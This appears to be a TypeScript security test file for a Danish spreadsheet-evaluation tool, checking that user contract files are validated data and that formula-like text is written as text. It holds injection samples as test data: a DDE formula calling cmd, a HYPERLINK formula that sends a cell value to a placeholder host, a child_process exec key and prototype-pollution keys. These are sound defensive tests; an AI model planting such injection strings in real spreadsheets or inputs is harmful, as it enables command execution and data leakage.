/**
 * No template or cell text can run code. Contract files are data: validated by the schema,
 * size- and depth-limited, refused with the path of the mistake; the source has no eval or
 * Function constructor; and text that looks like a formula (=, +, -, @) — from a contract or
 * from a finding — is written as text by every writer (package writer, Office adapter) and
 * stays text when Excel or LibreOffice opens the file.
 */
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { contractFileText } from "../../src/app/authoring";
import type { Contract } from "../../src/domain/contract/schema";
import { findContract } from "../../src/templates";
import { OfficeWorkbook } from "../../src/workbook/office";
import { FakeExcel } from "../../src/workbook/office/testing/fake-excel";
import type { PlanCell, WritePlan } from "../../src/workbook/port";
import { XlsxWorkbook } from "../../src/workbook/xlsx";
import { createWorkbook } from "../../src/workbook/xlsx/create";
import { readPackage } from "../../src/workbook/xlsx/zip";
import { recalcWithLibreOffice, skipWithoutLibreOffice } from "../writer/libreoffice";
import { cli, fixture, STACK, tempDir } from "./helpers";

const ROOT = join(__dirname, "..", "..");
const tmp = tempDir();

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return sourceFiles(path);
    return /\.(ts|tsx|js|mjs|cjs)$/.test(name) ? [path] : [];
  });
}

describe("the source cannot evaluate text as code", () => {
  it("has no eval, new Function, Function(…), string timers or dynamic imports of computed paths", () => {
    const offenders: string[] = [];
    for (const file of sourceFiles(join(ROOT, "src"))) {
      const text = readFileSync(file, "utf8")
        .replace(/\/\*[\s\S]*?\*\//g, "")
        .replace(/(^|[^:])\/\/.*$/gm, "$1");
      const rel = relative(ROOT, file);
      if (/\beval\s*\(/.test(text)) offenders.push(`${rel}: eval(`);
      if (/\bnew\s+Function\b/.test(text)) offenders.push(`${rel}: new Function`);
      if (/(^|[^\w.$])Function\s*\(/m.test(text)) offenders.push(`${rel}: Function(`);
      if (/\bset(Timeout|Interval)\s*\(\s*["'`]/.test(text)) offenders.push(`${rel}: string timer`);
      if (/\bimport\s*\(\s*[^"'`\s)]/.test(text)) offenders.push(`${rel}: import(computed)`);
      if (/\brequire\s*\(\s*[^"'`\s)]/.test(text)) offenders.push(`${rel}: require(computed)`);
    }
    expect(offenders).toEqual([]);
  });
});

/* ------------------------------------------------------------------ contract files */

const sjaelland = findContract("sjaelland-2025") as Contract;
const contractFile = (name: string, text: string | Uint8Array): string => {
  const path = join(tmp, name);
  writeFileSync(path, text);
  return path;
};

describe("contract files from users are data, validated and limited", () => {
  const base = JSON.parse(contractFileText(sjaelland)) as Record<string, unknown>;
  /** A filter nested `depth` deep, as text (building it as an object would overflow JSON.stringify). */
  const deepFilter = (depth: number): string =>
    `${'{"op":"not","of":'.repeat(depth)}{"op":"blank","field":"tema"}${"}".repeat(depth)}`;
  const withFilter = (where: string) => {
    const c = structuredClone(base) as { goals: { indicators: { measure: Record<string, unknown> }[] }[] };
    c.goals[6]!.indicators[0]!.measure.where = "__WHERE__";
    return JSON.stringify(c).replace('"__WHERE__"', where);
  };

  const cases: [string, () => string | Uint8Array, RegExp][] = [
    [
      "larger than 1 MB",
      () => `${JSON.stringify(base)}${" ".repeat(1_000_001)}`,
      /er ikke gyldig: større end 1000000 byte\.$/,
    ],
    ["nested 100,000 deep", () => `${"[".repeat(100_000)}${"]".repeat(100_000)}`, /er ikke gyldig: \$: /],
    ["a filter nested 5,000 deep", () => withFilter(deepFilter(5000)), /er ikke gyldig: \$: /],
    ["not JSON", () => "{ id: sjaelland }", /er ikke gyldig: \$: /],
    ["empty", () => "", /er ikke gyldig/],
    ["a zip named .json", () => readFileSync(fixture("valid.xlsx")), /er ikke gyldig/],
    ["a JSON array", () => "[1,2,3]", /er ikke gyldig/],
    ["JavaScript, not JSON", () => 'module.exports = { id: "x" }; process.exit(3)', /er ikke gyldig/],
    [
      "an unknown key that would be code elsewhere",
      () => JSON.stringify({ ...base, onLoad: "require('child_process').exec('calc')" }),
      /er ikke gyldig: .*onLoad/,
    ],
    [
      "a measure kind that does not exist",
      () => withFilter('{ "op": "script", "code": "process.exit(4)" }'),
      /er ikke gyldig: \$\.goals\[6\]\.indicators\[0\]\.measure\.where/,
    ],
  ];
  it.each(cases)("%s: exit 2 with the reason", async (_name, content, reason) => {
    const file = contractFile(`c-${_name.replace(/\W+/g, "-")}.json`, content());
    const r = await cli("check", fixture("valid.xlsx"), "--contract", file);
    expect(r.code).toBe(2);
    expect(r.err.split("\n")).toHaveLength(1);
    expect(r.err).toMatch(/^Kontraktfilen .* er ikke gyldig/);
    expect(r.err).toMatch(reason);
    expect(r.err).not.toMatch(STACK);
    expect(r.err.length).toBeLessThan(2000);
    expect(r.err).not.toMatch(/\.\.$/);
  });

  it("__proto__ and constructor keys neither pass nor pollute anything", async () => {
    const text = contractFileText(sjaelland).replace(
      '"schemaVersion": 2,',
      '"schemaVersion": 2, "__proto__": { "polluted": "yes" }, "constructor": { "prototype": { "polluted": "yes" } },',
    );
    const r = await cli("check", fixture("valid.xlsx"), "--contract", contractFile("proto.json", text));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/__proto__|constructor/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
  });
});

/* ------------------------------------------------------------------ formula-like text stays text */

const FORMULA_LIKE = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"klik")',
  "+1",
  "-2",
  "@SUM(A1)",
  "=1+1",
  "=cmd|' /C calc'!A0",
  "-1+1",
  "+45 12 34 56 78",
] as const;

/** A copy of Sjælland 2025 whose user-editable texts all look like formulas. */
function formulaLikeContract(): Contract {
  const c = structuredClone(sjaelland) as { -readonly [K in keyof Contract]: Contract[K] };
  c.id = "formel-test";
  c.title = { da: FORMULA_LIKE[0] };
  c.goals = c.goals.map((g, i) => ({
    ...g,
    title: { da: FORMULA_LIKE[i % FORMULA_LIKE.length]! },
    notes: [{ kind: "info" as const, text: { da: FORMULA_LIKE[(i + 1) % FORMULA_LIKE.length]! } }],
    indicators: g.indicators.map((ind, k) => ({
      ...ind,
      label: { da: FORMULA_LIKE[(i + k + 2) % FORMULA_LIKE.length]! },
      notes: [{ kind: "info" as const, text: { da: FORMULA_LIKE[(i + k + 3) % FORMULA_LIKE.length]! } }],
      whatIfOf: { da: "@rækker" },
    })),
  }));
  return c as Contract;
}

/** Every `<c>` of a sheet part whose text is one of the given strings: does it hold a formula? */
function cellsWithText(xml: string, texts: readonly string[]): { text: string; formula: boolean }[] {
  const unescape = (s: string) =>
    s
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, "&");
  const out: { text: string; formula: boolean }[] = [];
  for (const m of xml.matchAll(/<c\b[^>]*>([\s\S]*?)<\/c>/g)) {
    const inner = m[1] ?? "";
    const t = /<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1];
    const f = /<f[\s>]/.test(inner);
    const shown = t === undefined ? undefined : unescape(t);
    if (shown !== undefined && texts.some((x) => shown.includes(x))) out.push({ text: shown, formula: f });
  }
  return out;
}

describe("formula-like text is written as text", () => {
  it("a contract's titles, labels and notes land in Målopfyldelse as text (CLI, .xlsx)", async () => {
    const file = contractFile("formel.json", contractFileText(formulaLikeContract()));
    const out = join(tmp, "formel.xlsx");
    const r = await cli("evaluate", fixture("valid.xlsx"), "--contract", file, "--write", out, "--json");
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out).title).toBe(FORMULA_LIKE[0]);
    const pkg = readPackage(new Uint8Array(readFileSync(out)));
    const wb = XlsxWorkbook.open(new Uint8Array(readFileSync(out)));
    const statusIndex = wb.sheetNames().indexOf("Målopfyldelse");
    const rels = new TextDecoder().decode(pkg.entries.get("xl/_rels/workbook.xml.rels"));
    const wbXml = new TextDecoder().decode(pkg.entries.get("xl/workbook.xml"));
    const rid = [...wbXml.matchAll(/<sheet [^>]*r:id="(rId\d+)"/g)][statusIndex]![1]!;
    const target =
      new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
      new RegExp(`Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)![1]!;
    const xml = new TextDecoder().decode(pkg.entries.get(`xl/${target.replace(/^\/?xl\//, "")}`));
    const cells = cellsWithText(xml, FORMULA_LIKE);
    expect(cells.length).toBeGreaterThan(20);
    expect(cells.filter((c) => c.formula)).toEqual([]);
    // Read back through the reader: the same texts, exactly.
    const src = (await wb.listSources()).find((s) => s.sheet === "Målopfyldelse")!;
    const { columns } = await wb.readColumns(src, [src.headers.indexOf("Titel")]);
    expect(columns[0]).toEqual(expect.arrayContaining([FORMULA_LIKE[0], "+1", "-2", "@SUM(A1)", "=1+1"]));
  });

  const plan = (): WritePlan => {
    const text = (t: string): PlanCell => ({ kind: "value", value: t });
    return {
      statusSheet: {
        name: "Målopfyldelse",
        rows: [[text("Mål"), text("Bemærkninger")], ...FORMULA_LIKE.map((t, i) => [text(String(i + 1)), text(t)])],
      },
      kontrolColumns: [
        {
          sheet: "Brugerevaluering",
          table: "Evaluering",
          headerRow: 1,
          column: 5,
          header: "Kontrol",
          values: [...FORMULA_LIKE.slice(0, 6)],
        },
      ],
      highlights: [],
    };
  };

  it("Kontrol texts and status notes through XlsxWorkbook.apply: text in the XML, and in LibreOffice", async () => {
    const wb = XlsxWorkbook.open(new Uint8Array(readFileSync(fixture("valid.xlsx"))));
    await wb.apply(plan());
    const bytes = wb.toBytes();
    const pkg = readPackage(bytes);
    for (const [name, data] of pkg.entries) {
      if (!/worksheets\/sheet\d+\.xml$/.test(name)) continue;
      const cells = cellsWithText(new TextDecoder().decode(data), FORMULA_LIKE);
      expect(cells.filter((c) => c.formula)).toEqual([]);
    }
    const back = XlsxWorkbook.open(bytes);
    const evalSrc = (await back.listSources()).find((s) => s.table === "Evaluering")!;
    const kontrol = await back.readColumns(evalSrc, [evalSrc.headers.indexOf("Kontrol")]);
    expect(kontrol.columns[0]).toEqual(FORMULA_LIKE.slice(0, 6));
    const statusSrc = (await back.listSources()).find((s) => s.sheet === "Målopfyldelse")!;
    expect((await back.readColumns(statusSrc, [1])).columns[0]).toEqual([...FORMULA_LIKE]);

    if (skipWithoutLibreOffice("formula-like text in LibreOffice")) return;
    // LibreOffice opens the file, recalculates everything and saves it: the texts are still texts.
    const lo = XlsxWorkbook.open(await recalcWithLibreOffice(bytes));
    const loStatus = (await lo.listSources()).find((s) => s.sheet === "Målopfyldelse")!;
    expect((await lo.readColumns(loStatus, [1])).columns[0]).toEqual([...FORMULA_LIKE]);
    const loEval = (await lo.listSources()).find((s) => s.sheet === "Brugerevaluering")!;
    expect((await lo.readColumns(loEval, [loEval.headers.indexOf("Kontrol")])).columns[0]).toEqual(
      FORMULA_LIKE.slice(0, 6),
    );
  }, 120_000);

  it("the Office adapter writes the same texts as text (an apostrophe Excel does not keep)", async () => {
    const book = new FakeExcel();
    book.put("Brugerevaluering", "A1", [
      ["CVR-nummer", "Kundesegment", "Anbefaling (0-10)", "Forventet effekt", "Brug af henvisning"],
      ...Array.from({ length: 6 }, () => ["12345674", "drift", 9, "i høj grad", "ja"]),
    ]);
    book.addTable(book.sheet("Brugerevaluering")!, "A1:E7").name = "Evaluering";
    const port = new OfficeWorkbook(book.run, { dataValidation: true, suspendScreenUpdating: true });
    await port.apply(plan());
    FORMULA_LIKE.forEach((t, i) => {
      const cell = book.cell("Målopfyldelse", `B${i + 2}`)!;
      expect([cell.value, cell.formula]).toEqual([t, undefined]);
    });
    FORMULA_LIKE.slice(0, 6).forEach((t, i) => {
      const cell = book.cell("Brugerevaluering", `F${i + 2}`)!;
      expect([cell.value, cell.formula]).toEqual([t, undefined]);
    });
  });
});

describe("contract texts cannot change what a written formula means", () => {
  it("filter values with * ? ~ or a leading < = > are matched literally, as the engine does (fixed)", async () => {
    const c = JSON.parse(contractFileText(sjaelland)) as {
      id: string;
      goals: { indicators: { measure: Record<string, unknown> }[] }[];
    };
    c.id = "jokertegn";
    c.goals[6]!.indicators[0]!.measure.where = { op: "in", field: "forloebstype", values: ["Kort*"] };
    c.goals[6]!.indicators[1]!.measure.where = { op: "in", field: "forloebstype", values: ["<3 timer", "Hand?"] };
    const date = { kind: "date" as const, value: "2025-03-01" };
    const types = ["Kort*", "Kort forløb", "<3 timer", "2 timer", "Hand?", "Hands", "~x"];
    const input = join(tmp, "jokertegn.xlsx");
    writeFileSync(
      input,
      createWorkbook({
        sheets: [
          {
            name: "Forløb",
            rows: [["CVR-nummer", "Forløbstype", "Startdato"], ...types.map((t) => ["12345674", t, date])],
            tables: [{ name: "Forloeb", range: `A1:C${types.length + 1}` }],
          },
        ],
      }),
    );
    const out = join(tmp, "jokertegn-ud.xlsx");
    const file = contractFile("jokertegn.json", JSON.stringify(c));
    const r = await cli("evaluate", input, "--contract", file, "--write", out, "--json");
    expect(r.code).toBe(0);
    const engine = JSON.parse(r.out)
      .goals[6].indicators.slice(0, 2)
      .map((i: { value: number }) => i.value);
    expect(engine).toEqual([1, 2]);
    const xml = [...readPackage(new Uint8Array(readFileSync(out))).entries.values()]
      .map((b) => new TextDecoder().decode(b))
      .join("");
    expect(xml).toContain('Forloeb[[Forløbstype]],"Kort~*"');
    expect(xml).toContain('{"=&lt;3 timer","Hand~?"}');
    if (skipWithoutLibreOffice("literal criteria in LibreOffice")) return;
    const lo = XlsxWorkbook.open(await recalcWithLibreOffice(new Uint8Array(readFileSync(out))));
    const status = (await lo.listSources()).find((s) => s.sheet === "Målopfyldelse")!;
    const { columns } = await lo.readColumns(status, [
      status.headers.indexOf("Id"),
      status.headers.indexOf("Realiseret"),
    ]);
    const realised = (id: string) => columns[1]![columns[0]!.indexOf(`7/${id}`)];
    expect([realised("korte-forloeb"), realised("handlingsplaner")]).toEqual(engine);
  }, 120_000);
});
